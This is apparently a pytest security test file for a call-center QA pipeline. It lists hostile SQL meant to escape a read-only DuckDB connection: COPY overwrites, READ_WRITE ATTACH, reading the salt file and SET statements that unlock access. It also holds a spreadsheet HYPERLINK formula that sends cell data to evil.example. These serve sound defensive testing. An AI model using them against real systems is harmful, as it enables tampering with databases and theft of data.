"""Hostile and broken access to the database (issue 18): SQL through the read-only `query` command and
`open_read_only` that reaches for files, CSV cells a spreadsheet would run, personal numbers in a review
note, a --db-wait that never times out, and database files that are corrupt or read-only.

Real DuckDB files made by `qa-pipeline score` (no audio); every attack checks the database and its
caller-hash key (qa.salt) byte for byte afterwards.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest

from qa_pipeline import open_read_only
from qa_pipeline.cli import build_parser, main
from qa_pipeline.store.database import QaDatabase
from tests.reliability.conftest import Ledger
from tests.reliability.test_access_and_settings import CALL

PHONE = "13800138000"
ID_CARD = "110101199003078515"


@dataclass
class Scored:
    """A database written by `score`, its salt file beside it, and the bytes of both as written."""

    db: Path
    salt: Path
    db_bytes: bytes
    salt_bytes: bytes

    def assert_untouched(self) -> None:
        assert self.db.read_bytes() == self.db_bytes, "the database file was changed"
        assert self.salt.read_bytes() == self.salt_bytes, "the salt file was changed"
        assert not Path(f"{self.db}.wal").exists(), "a WAL appeared beside the database"

    def calls(self) -> int:
        with duckdb.connect(str(self.db), read_only=True) as con:
            [(count,)] = con.execute("SELECT count(*) FROM calls").fetchall()
        return int(count)


def rows(db: Path, sql: str) -> list[tuple[object, ...]]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(sql).fetchall()


def score_into(directory: Path, call: dict[str, object] = CALL) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    transcripts = directory / "calls.jsonl"
    transcripts.write_text(json.dumps(call, ensure_ascii=False) + "\n", encoding="utf-8")
    db = directory / "qa.duckdb"
    assert main(["score", str(transcripts), "--db", str(db)]) == 0
    return db


@pytest.fixture
def scored(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Scored:
    # Without $QA_PIPELINE_SALT the first run writes the key beside the database, as in production.
    monkeypatch.delenv("QA_PIPELINE_SALT")
    db = score_into(tmp_path / "center")
    salt = db.with_name("qa.salt")
    assert salt.is_file()
    capsys.readouterr()
    return Scored(db, salt, db.read_bytes(), salt.read_bytes())


def one_error(out: str) -> str:
    """The command's output when it is exactly one error message (rich wraps long lines at 200 columns)."""
    assert "Traceback" not in out
    assert out.lstrip().startswith("error:"), out
    assert out.count("error:") == 1, out
    return out.replace("\n", "")


# Each: what it tries, and the SQL ({db}, {salt}, {dir}, {other}, {link} are filled in).
ATTACKS = [
    ("COPY TO the database file", "COPY (SELECT 'garbage') TO '{db}'"),
    (
        "COPY TO the database file, no temp file (allowed by enable_external_access=false alone)",
        "COPY (SELECT 'garbage') TO '{db}' (USE_TMP_FILE false, HEADER false)",
    ),
    ("COPY TO the database's WAL (the next writer would replay it)", "COPY (SELECT 'garbage') TO '{db}.wal'"),
    ("COPY TO the caller-hash key qa.salt", "COPY (SELECT 'garbage') TO '{salt}' (HEADER false)"),
    ("EXPORT DATABASE into a new directory", "EXPORT DATABASE '{dir}/export'"),
    (
        "ATTACH a new database file READ_WRITE and create a table",
        "ATTACH '{dir}/new.duckdb' AS new (READ_WRITE); CREATE TABLE new.t AS SELECT 1",
    ),
    (
        "ATTACH another existing database READ_WRITE and delete from it",
        "ATTACH '{other}' AS other (READ_WRITE); DELETE FROM other.calls",
    ),
    (
        "ATTACH a hard link to the database READ_WRITE and delete a call",
        "ATTACH '{link}' AS link (READ_WRITE); DELETE FROM link.calls",
    ),
    ("read_text of the salt", "SELECT * FROM read_text('{salt}')"),
    ("read_csv of the salt", "SELECT * FROM read_csv('{salt}', header = false)"),
    ("read_blob of the salt", "SELECT * FROM read_blob('{salt}')"),
    ("read_blob of the database file itself", "SELECT * FROM read_blob('{db}')"),
    (
        "SET enable_external_access back to true, then COPY",
        "SET enable_external_access = true; COPY (SELECT 'garbage') TO '{salt}' (HEADER false)",
    ),
    (
        "RESET enable_external_access, then COPY",
        "RESET enable_external_access; COPY (SELECT 'garbage') TO '{salt}' (HEADER false)",
    ),
    (
        "SET lock_configuration = false, then COPY",
        "SET lock_configuration = false; COPY (SELECT 'garbage') TO '{salt}' (HEADER false)",
    ),
    (
        "SET disabled_filesystems back to none, then COPY",
        "SET disabled_filesystems = ''; COPY (SELECT 'garbage') TO '{db}' (USE_TMP_FILE false)",
    ),
    (
        "SET allowed_paths to the salt, then read it",
        "SET allowed_paths = ['{salt}']; SELECT * FROM read_text('{salt}')",
    ),
]


@pytest.fixture
def targets(scored: Scored, capsys: pytest.CaptureFixture[str]) -> Iterator[dict[str, str]]:
    """The paths an attack aims at; the other database and the hard link exist and are checked after."""
    directory = scored.db.parent
    other = score_into(directory.parent / "other")
    link = directory / "link.duckdb"
    os.link(scored.db, link)
    other_bytes = other.read_bytes()
    capsys.readouterr()
    yield {
        "db": str(scored.db),
        "salt": str(scored.salt),
        "dir": str(directory),
        "other": str(other),
        "link": str(link),
    }
    scored.assert_untouched()
    assert other.read_bytes() == other_bytes, "another database was changed"
    assert scored.calls() == 1
    # qa.duckdb.run.lock: the (empty) lock file `score` held while it wrote (store.sharing.run_lock)
    expected = ["calls.jsonl", "link.duckdb", "qa.duckdb", "qa.duckdb.run.lock", "qa.salt"]
    assert sorted(p.name for p in directory.iterdir()) == expected


@pytest.mark.parametrize(("what", "sql"), ATTACKS, ids=[what for what, _ in ATTACKS])
def test_query_refuses_what_reaches_past_the_database(
    what: str, sql: str, targets: dict[str, str], scored: Scored, capsys: pytest.CaptureFixture[str], ledger: Ledger
) -> None:
    ledger.input(f"qa-pipeline query: {what}")
    assert main(["query", "--db", targets["db"], sql.format(**targets)]) == 2
    captured = capsys.readouterr()
    message = one_error(captured.out)
    assert "refused" in message and "Traceback" not in captured.err
    assert scored.salt_bytes.decode().strip() not in captured.out + captured.err


@pytest.mark.parametrize(("what", "sql"), ATTACKS, ids=[what for what, _ in ATTACKS])
def test_open_read_only_refuses_what_reaches_past_the_database(
    what: str, sql: str, targets: dict[str, str], ledger: Ledger
) -> None:
    ledger.input(f"qa_pipeline.open_read_only: {what}")
    connection = open_read_only(targets["db"])
    try:
        # One statement at a time too: a refused SET must leave the next statement as locked as the first.
        for statement in [*sql.format(**targets).split("; "), sql.format(**targets)]:
            with pytest.raises(duckdb.Error):
                connection.execute(statement)
        assert connection.execute("SELECT count(*) FROM call_facts").fetchall() == [(1,)]
    finally:
        connection.close()


def test_two_readers_in_one_process_are_both_locked_and_the_writer_still_writes(
    scored: Scored, capsys: pytest.CaptureFixture[str], ledger: Ledger
) -> None:
    ledger.input("a second open_read_only of the same file in one process (DuckDB shares the instance)")
    first = open_read_only(str(scored.db))
    second = open_read_only(str(scored.db))
    try:
        for connection in (first, second):
            with pytest.raises(duckdb.Error):
                connection.execute(f"COPY (SELECT 1) TO '{scored.db}' (USE_TMP_FILE false)")
            assert connection.sql("SELECT call_id, qa_score FROM call_facts").pl()["call_id"].to_list() == ["t1"]
    finally:
        first.close()
        second.close()
    scored.assert_untouched()
    # Closed readers leave nothing locked behind: the next writer opens the file as usual.
    [(check_id,)] = rows(scored.db, "SELECT min(check_id) FROM check_results")
    argv = ["review", "t1", "--db", str(scored.db), "--check", str(check_id), "--verdict", "pass", "--by", "Li Na"]
    assert main([*argv, "--note", "ok"]) == 0


def test_query_still_reads_tables_and_views(scored: Scored, capsys: pytest.CaptureFixture[str]) -> None:
    sql = "SELECT f.call_id, d.calls FROM call_facts f, kpi_daily d ORDER BY 1"
    assert main(["query", "--db", str(scored.db), "--format", "json", sql]) == 0
    assert json.loads(capsys.readouterr().out) == [{"call_id": "t1", "calls": 1}]


# -- CSV cells a spreadsheet would run -----------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_query_csv_neutralises_formula_cells_not_numbers(
    scored: Scored, capsys: pytest.CaptureFixture[str], ledger: Ledger
) -> None:
    ledger.input("query --format csv of text cells starting = + - @ tab CR (spreadsheet formula injection)")
    sql = (
        "SELECT '=1+2' AS \"=head\", '+86 138' AS plus, '-x' AS minus, '@SUM(A1)' AS at, chr(9) || 'tab' AS tab,"
        " chr(13) || 'cr' AS cr, -3.5 AS negative, -2 AS negative_int, 'plain' AS plain, NULL AS nothing"
    )
    assert main(["query", "--db", str(scored.db), "--format", "csv", sql]) == 0
    header, row = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert header[0] == "'=head"
    assert row == ["'=1+2", "'+86 138", "'-x", "'@SUM(A1)", "'\ttab", "'\rcr", "-3.5", "-2", "plain", ""]


def test_kpis_csv_neutralises_an_agent_id_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], ledger: Ledger
) -> None:
    ledger.input("kpis --format csv with an agent id that is a spreadsheet formula")
    call = {**CALL, "metadata": {**CALL["metadata"], "agent_id": FORMULA}}  # type: ignore[dict-item]
    db = score_into(tmp_path, call)
    capsys.readouterr()
    assert main(["kpis", "--db", str(db), "--by", "agent", "--format", "csv"]) == 0
    records = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["agent_id"] for r in records] == ["'" + FORMULA]
    assert records[0]["calls"] == "1"  # numbers are no formula: as they are
    assert float(records[0]["avg_qa_score"]) == pytest.approx(
        float(rows(db, "SELECT qa_score FROM calls")[0][0]), abs=0.05
    )


@pytest.mark.parametrize("command", ["kpis", "query"])
def test_format_help_says_what_csv_does_to_formulas(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main([command, "--help"])
    text = " ".join(capsys.readouterr().out.split())
    assert "formula" in text and "= + - @" in text


# -- personal numbers in a review note -----------------------------------------------------------------


def test_a_review_note_is_stored_masked(scored: Scored, capsys: pytest.CaptureFixture[str], ledger: Ledger) -> None:
    ledger.input("review --note with a phone number and an ID-card number")
    [(check_id,)] = rows(scored.db, "SELECT min(check_id) FROM check_results")
    note = f"客户要求回电 {PHONE}，身份证 {ID_CARD}"
    argv = ["review", "t1", "--db", str(scored.db), "--check", str(check_id), "--verdict", "fail", "--by", "Li Na"]
    assert main([*argv, "--note", note]) == 0
    out = capsys.readouterr().out
    [(stored,)] = rows(scored.db, "SELECT note FROM reviews")
    assert PHONE not in str(stored) and ID_CARD not in str(stored) and "客户要求回电" in str(stored)
    assert PHONE not in out and ID_CARD not in out


# -- --db-wait ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["nan", "-1", "inf", "-inf", "soon"])
@pytest.mark.parametrize("command", ["run", "deploy"])
def test_db_wait_must_be_finite_seconds(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], value: str, command: str, ledger: Ledger
) -> None:
    ledger.input(f"{command} --db-wait {value}")
    with pytest.raises(SystemExit) as exit_:
        main([command, str(tmp_path), "--db", str(tmp_path / "qa.duckdb"), f"--db-wait={value}"])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert "--db-wait" in err and value in err and "Traceback" not in err
    assert not (tmp_path / "qa.duckdb").exists()


def test_db_wait_zero_is_accepted_and_open_writer_refuses_nan(tmp_path: Path) -> None:
    assert build_parser().parse_args(["run", str(tmp_path), "--db", "x", "--db-wait", "0"]).db_wait == 0.0
    with pytest.raises(ValueError, match="wait"):
        QaDatabase.open_writer(tmp_path / "qa.duckdb", float("nan"))


# -- corrupt and read-only database files -----------------------------------------------------------------

BROKEN_FILES = {
    "4 KB of random bytes": random.Random(18).randbytes(4096),
    "a text file named qa.duckdb": b"call_id,agent_id\ncall-1,A001\n",
    "an empty file": b"",
}
DAMAGED = "DuckDB's first 4 KB (its header) followed by 8 KB of random bytes"


def broken_file(kind: str, tmp_path: Path) -> bytes:
    if kind in BROKEN_FILES:
        return BROKEN_FILES[kind]
    header = score_into(tmp_path / "source").read_bytes()[:4096]
    return header + random.Random(18).randbytes(8192)


def command_lines(tmp_path: Path, db: Path) -> dict[str, list[str]]:
    """Every command that opens the database, with inputs that are fine apart from the database."""
    audio = tmp_path / "audio"
    audio.mkdir(exist_ok=True)
    transcripts = tmp_path / "calls.jsonl"
    transcripts.write_text(json.dumps(CALL, ensure_ascii=False) + "\n", encoding="utf-8")
    labels = tmp_path / "labels.json"
    labels.write_text('{"calls": [{"call_id": "t1", "checks": {}}]}', encoding="utf-8")
    review = ["review", "t1", "--db", str(db), "--check", "greeting", "--verdict", "pass", "--by", "Li Na"]
    return {
        "run": ["run", str(audio), "--db", str(db), "--no-report", "--db-wait", "0"],
        "score": ["score", str(transcripts), "--db", str(db)],
        "review": [*review, "--note", "ok"],
        "review-show": ["review", "t1", "--db", str(db)],
        "kpis": ["kpis", "--db", str(db)],
        "query": ["query", "--db", str(db), "SELECT count(*) FROM calls"],
        "report": ["report", "--db", str(db), "--out", str(tmp_path / "report")],
        "eval": ["eval", str(labels), "--db", str(db)],
    }


COMMANDS = ["run", "score", "review", "review-show", "kpis", "query", "report", "eval"]


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("kind", [*BROKEN_FILES, DAMAGED])
def test_a_corrupt_database_file_is_named_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str, command: str, ledger: Ledger
) -> None:
    ledger.input(f"{command} on a database file that is {kind}")
    db = tmp_path / "qa.duckdb"
    content = broken_file(kind, tmp_path)
    db.write_bytes(content)
    capsys.readouterr()
    argv = command_lines(tmp_path, db)[command]
    assert main(argv) == 2
    # `run` meets a damaged file (its header passes the check before the run) inside the Prefect flow,
    # whose log has the flow's traceback: the command itself ends with the one named error.
    captured = capsys.readouterr()
    out = captured.out
    if kind == DAMAGED and command == "run":
        out = out[out.index("error:") :]
    else:
        assert "Traceback" not in captured.err
    message = one_error(out)
    problem = "the file is damaged" if kind == DAMAGED else "is not a DuckDB database file"
    assert str(db) in message and problem in message
    assert db.read_bytes() == content, "the broken file was overwritten"
    assert not (tmp_path / "report").exists()


def test_a_directory_as_database_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str], ledger: Ledger) -> None:
    ledger.input("score and run with --db naming a directory")
    db = tmp_path / "qa.duckdb"
    db.mkdir()
    for command in ("score", "run"):
        assert main(command_lines(tmp_path, db)[command]) == 2
        assert "is a directory" in one_error(capsys.readouterr().out)


def _can_drop_file_override() -> bool:
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return False
    probe = [setpriv, "--bounding-set", "-dac_override,-dac_read_search,-fowner", "--", "true"]
    return subprocess.run(probe, capture_output=True, check=False).returncode == 0


def run_bound_by_permissions(argv: list[str]) -> subprocess.CompletedProcess[str]:
    """The CLI in a child process that file permissions bind. These tests run as root, where chmod stops
    nothing: as root the child runs without the capabilities that override file permissions."""
    command = [sys.executable, "-m", "qa_pipeline", *argv]
    if os.geteuid() == 0:
        if not _can_drop_file_override():
            pytest.skip("root without setpriv or the right to drop capabilities: chmod cannot be tested")
        command = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search,-fowner", "--", *command]
    return subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)


@pytest.fixture
def read_only_dbs(tmp_path: Path) -> Iterator[dict[str, Path]]:
    """A scored database made read-only two ways: the file (chmod 444), and its folder (chmod 555, the
    file itself writable: DuckDB cannot create qa.duckdb.wal beside it)."""
    source = score_into(tmp_path / "source")
    paths = {}
    for name in ("file", "folder"):
        (tmp_path / name).mkdir()
        paths[name] = Path(shutil.copy(source, tmp_path / name / "qa.duckdb"))
    paths["file"].chmod(0o444)
    paths["folder"].chmod(0o666)
    paths["folder"].parent.chmod(0o555)
    yield paths
    paths["folder"].parent.chmod(0o755)


@pytest.mark.parametrize("command", ["run", "score", "review"])
@pytest.mark.parametrize("how", ["file", "folder"])
def test_a_read_only_database_refuses_writers_by_name(
    tmp_path: Path, read_only_dbs: dict[str, Path], how: str, command: str, ledger: Ledger
) -> None:
    ledger.input(f"{command} into a database whose {how} is read-only (chmod, permissions enforced)")
    db = read_only_dbs[how]
    before = db.read_bytes()
    result = run_bound_by_permissions(command_lines(tmp_path, db)[command])
    assert result.returncode == 2, result.stdout + result.stderr
    message = one_error(result.stdout)
    assert str(db) in message and ("read-only" in message or "cannot write" in message), message
    assert "in use by another process" not in message
    assert "Traceback" not in result.stderr
    assert db.read_bytes() == before
    assert not Path(f"{db}.wal").exists()


@pytest.mark.parametrize("how", ["file", "folder"])
def test_a_read_only_database_still_serves_readers(
    tmp_path: Path, read_only_dbs: dict[str, Path], how: str, ledger: Ledger
) -> None:
    ledger.input(f"query and kpis on a database whose {how} is read-only (a QA lead's read-only share)")
    db = read_only_dbs[how]
    for command in ("query", "kpis"):
        result = run_bound_by_permissions(command_lines(tmp_path, db)[command])
        assert result.returncode == 0, result.stdout + result.stderr
